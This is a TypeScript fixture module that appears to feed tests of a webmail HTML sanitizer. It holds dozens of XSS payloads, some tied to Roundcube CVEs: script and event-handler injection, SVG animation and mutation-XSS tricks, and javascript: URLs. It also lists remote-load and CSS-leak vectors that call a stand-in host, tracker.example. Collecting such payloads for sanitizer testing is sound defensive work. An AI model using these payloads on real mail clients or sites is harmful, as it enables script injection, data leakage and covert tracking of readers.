// HTML that a mail may carry to harm its reader: one for each way that is known to us, in our words. The shapes of the
// holes that Roundcube mended from 2024 to 2026 are named by their CVE.
import { existsSync, readFileSync } from "node:fs";
import { fileURLToPath } from "node:url";

export const REMOTE = "http://tracker.example";
const CORPUS = fileURLToPath(
  new URL("../../../../shared/corpus/xss/dompurify-payloads.json", import.meta.url),
);

/** Each tries to run a script, to load something, or to lead the page away. */
const ATTACKS: readonly string[] = [
  `<script>top.hacked=1;alert(1)</script>`,
  `<img src=x onerror="top.hacked=1;fetch('${REMOTE}/onerror')">`,
  `<svg onload="top.hacked=1"><image href="${REMOTE}/svg.png"/><use href="${REMOTE}/use.svg#x"/></svg>`,
  `<svg><a><animate attributeName=href values="javascript:top.hacked=1"/><text>click</text></a></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<iframe src="${REMOTE}/frame"></iframe><iframe srcdoc="<script>top.hacked=1</script>"></iframe>`,
  `<object data="${REMOTE}/object"></object><embed src="${REMOTE}/embed">`,
  `<form action="${REMOTE}/form"><input name=q autofocus onfocus="top.hacked=1"><button>Sign in</button></form>`,
  `<meta http-equiv="refresh" content="0;url=${REMOTE}/refresh"><base href="${REMOTE}/">`,
  `<link rel=stylesheet href="${REMOTE}/style.css"><link rel=prefetch href="${REMOTE}/prefetch">`,
  `<body onload="top.hacked=1" onpageshow="alert(1)"><a href="javascript:top.hacked=1">click</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">click</a><a href=" vbscript:x">click</a>`,
  // CVE-2024-37383: animated attributes
  `<svg><animate xlink:href="#x" attributeName="href" values="a;javascript:alert(1)"/><a id="x"><rect width="99" height="99"/></a></svg>`,
  `<svg><set attributeName="onmouseover" to="alert(1)"/><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>`,
  `<svg><animate attributeName=" href " values="javascript:alert(1)"/></svg>`,
  // CVE-2024-42008, 42009: parts that are rendered, and what a second pass undoes
  `<body title="bgcolor=foo" name="bar style=animation-name:progress-bar-stripes onanimationstart=alert(origin) foo=bar">`,
  `<p style="animation-name:x" onanimationstart="alert(1)">x</p><style>@keyframes x{}</style>`,
  `<object type="text/html" data="data:text/html,<script>alert(1)</script>"></object>`,
  `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">`,
  // CVE-2024-42010 and 2025-68460: style sheets that are read twice
  `<style>/*</style><img src=x onerror=alert(1)>*/</style>`,
  `<style><![CDATA[</style><script>alert(1)</script>]]></style>`,
  `<style>p{background:\\75\\72\\6c(${REMOTE}/escaped)}</style><p>x</p>`,
  `<style>@im\\port "${REMOTE}/escaped.css";@import/**/url(${REMOTE}/comment.css);</style>`,
  `<style>@import '${REMOTE}/a.css' layer(x) supports(display:grid);</style>`,
  // CVE-2025-68461, 2026-35539: SVG and what is embedded in it
  `<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>`,
  `<svg><style><img src=x onerror=alert(1)></style></svg><svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
  `<svg><script href="data:text/javascript,alert(1)"/><script xlink:href="${REMOTE}/x.js"/></svg>`,
  `<svg><feImage href="${REMOTE}/fe.png"/><filter id=f><feImage xlink:href="${REMOTE}/fe2.png"/></filter></svg>`,
  // CVE-2026-26079, 35544, 48848: styles over the page
  `<style>*{position:fixed!important;inset:0!important;z-index:2147483647!important}</style><p>over everything</p>`,
  // nested and broken markup
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form>`,
  `<table><style><!--</table><img src=x onerror=alert(1)>--></style>`,
  `<template><script>alert(1)</script></template><div><template shadowrootmode=open><script>alert(1)</script></template></div>`,
  `<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp><plaintext><img src=x onerror=alert(1)>`,
  `<textarea></textarea><img src=x onerror=alert(1)></textarea><title><img src=x onerror=alert(1)></title>`,
  `<!--[if gte IE 4]><script>alert(1)</script><![endif]--><!--><img src=x onerror=alert(1)>-->`,
  `<img src="x\` \`<script>alert(1)</script>"\` \`>`,
  `<a href="java&#9;script:alert(1)">a</a><a href="&#1;javascript:alert(1)">b</a><a href="JaVaScRiPt&colon;alert(1)">c</a>`,
  `<details open ontoggle=alert(1)><summary>x</summary></details><dialog open onclose=alert(1)>x</dialog>`,
  `<button popovertarget=x>x</button><div id=x popover onbeforetoggle=alert(1)>x</div>`,
  `<input type=image src="${REMOTE}/input.png" formaction="javascript:alert(1)"><isindex action="javascript:alert(1)">`,
  `<a target=_top href="${REMOTE}/top">x</a><a target=_parent href="${REMOTE}/parent">x</a>`,
  `<img name=body><form name=documentElement><input name=attributes></form><a id=location href="${REMOTE}">x</a>`,
];

/** What wants to be loaded: every way by which a mail can tell its sender that it was opened. */
export const WANTING: readonly string[] = [
  `<img src="${REMOTE}/pixel.png">`,
  `<img srcset="${REMOTE}/srcset.png 1x, ${REMOTE}/srcset2.png 2x">`,
  `<img src="//tracker.example/relative.png">`,
  `<img lowsrc="${REMOTE}/lowsrc.png" dynsrc="${REMOTE}/dynsrc.png" longdesc="${REMOTE}/longdesc">`,
  `<picture><source srcset="${REMOTE}/source.png"><img src="data:image/png;base64,AAAA"></picture>`,
  `<svg><image href="${REMOTE}/image.png"/><image xlink:href="${REMOTE}/xlink.png"/></svg>`,
  `<svg><use href="${REMOTE}/use.svg#a"/></svg>`,
  `<svg><filter id=f><feImage href="${REMOTE}/feimage.png"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>`,
  `<svg><image><animate attributeName=href values="${REMOTE}/animate.png"/></image></svg>`,
  `<svg><rect fill="url(${REMOTE}/fill.svg#a)" stroke="url('${REMOTE}/stroke.svg#a')" mask="url(${REMOTE}/mask.svg#m)" width=9 height=9 /></svg>`,
  `<p style="background:url('${REMOTE}/attribute.png')">x</p>`,
  `<p style="background-image:image-set('${REMOTE}/image-set.png' 1x)">x</p>`,
  `<p style="background:-webkit-image-set(url(${REMOTE}/webkit.png) 1x)">x</p>`,
  `<p style="--u:url(${REMOTE}/var.png);background:var(--u)">x</p>`,
  `<p style="list-style:url(${REMOTE}/list.png);cursor:url(${REMOTE}/cursor.png),auto;content:url(${REMOTE}/content.png)">x</p>`,
  `<p style="border-image:url(${REMOTE}/border.png) 1;mask:url(${REMOTE}/mask.png);shape-outside:url(${REMOTE}/shape.png)">x</p>`,
  `<p style="filter:url(${REMOTE}/filter.svg#f);clip-path:url(${REMOTE}/clip.svg#c)">x</p>`,
  `<style>body{background:url(${REMOTE}/css.png)}</style>`,
  `<style>p::before{content:url("${REMOTE}/before.png")}</style><p>x</p>`,
  `<style>@import "${REMOTE}/import.css";@import url(${REMOTE}/import-url.css);</style>`,
  `<style>@font-face{font-family:x;src:url(${REMOTE}/font.woff2)}p{font-family:x}</style><p>x</p>`,
  `<style>@namespace url(${REMOTE}/ns);@document url(${REMOTE}/doc){p{color:red}}</style>`,
  `<style>p{background:\\75rl(${REMOTE}/hex.png)}</style><p>x</p>`,
  `<style>input[value^=a]{background:url(${REMOTE}/leak-a)}</style><input value=abc>`,
  `<video poster="${REMOTE}/poster.png" src="${REMOTE}/video" autoplay></video><audio src="${REMOTE}/audio" autoplay></audio>`,
  `<video><source src="${REMOTE}/video-source"><track src="${REMOTE}/track.vtt" default></video>`,
  `<table background="${REMOTE}/table.png"><tr><td background="${REMOTE}/cell.png">x</td></tr></table>`,
  `<body background="${REMOTE}/body.png">`,
  `<link rel=stylesheet href="${REMOTE}/link.css"><link rel=prefetch href="${REMOTE}/prefetch"><link rel=preload as=image href="${REMOTE}/preload.png">`,
  `<link rel=dns-prefetch href="//tracker.example"><link rel=preconnect href="${REMOTE}"><link rel=icon href="${REMOTE}/icon.png"><link rel=manifest href="${REMOTE}/manifest">`,
  `<link rel=modulepreload href="${REMOTE}/module.js"><script type=speculationrules>{"prefetch":[{"source":"list","urls":["${REMOTE}/speculation"]}]}</script>`,
  `<object data="${REMOTE}/object.png" type="image/png"></object><embed src="${REMOTE}/embed.png" type="image/png">`,
  `<iframe src="${REMOTE}/iframe"></iframe><frameset><frame src="${REMOTE}/frame"></frameset>`,
  `<input type=image src="${REMOTE}/input.png"><bgsound src="${REMOTE}/bgsound"><applet code="${REMOTE}/applet"></applet>`,
  `<meta http-equiv=refresh content="0;url=${REMOTE}/refresh"><meta http-equiv="x-dns-prefetch-control" content="on"><a href="http://prefetched.tracker.example/">x</a>`,
  `<a ping="${REMOTE}/ping" href="${REMOTE}/a" attributionsrc="${REMOTE}/attribution">x</a><img attributionsrc="${REMOTE}/attribution" src="x">`,
  `<base href="${REMOTE}/"><img src="base.png">`,
  `<html manifest="${REMOTE}/appcache"><body><portal src="${REMOTE}/portal"></portal>`,
];

/** Ours, and those of DOMPurify's tests where the shared corpus is. */
export function htmlAttacks(): readonly string[] {
  const own = [...ATTACKS, ...WANTING];
  if (!existsSync(CORPUS)) {
    console.log("left out: the payloads of the shared corpus are absent");
    return own;
  }
  const known = JSON.parse(readFileSync(CORPUS, "utf8")) as readonly { readonly payload: unknown }[];
  return [...own, ...known.flatMap(({ payload }) => (typeof payload === "string" ? [payload] : []))];
}
